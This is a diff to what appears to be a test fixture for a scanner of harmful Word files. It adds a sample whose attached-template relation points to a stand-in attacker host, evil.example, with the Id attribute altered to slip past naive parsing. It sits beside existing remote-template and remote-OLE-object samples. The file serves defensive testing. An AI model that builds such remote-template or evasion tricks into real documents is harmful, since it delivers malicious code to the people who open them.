@@ -237,6 +237,12 @@ export async function harmfulFiles(): Promise<(MadeFile & { words: string })[]> 
     await word('a template from the web', 'from the internet', {
       'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/a.dotm'),
     }),
+    await word('a template from the web behind a sign that ends a tag elsewhere', 'from the internet', {
+      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/a.dotm').replace(
+        'Id="',
+        'Id=">',
+      ),
+    }),
     await word('an object from the web', 'from the internet', {
       'word/_rels/document.xml.rels': relations('oleObject', 'http://evil.example/a.html!'),
     }),
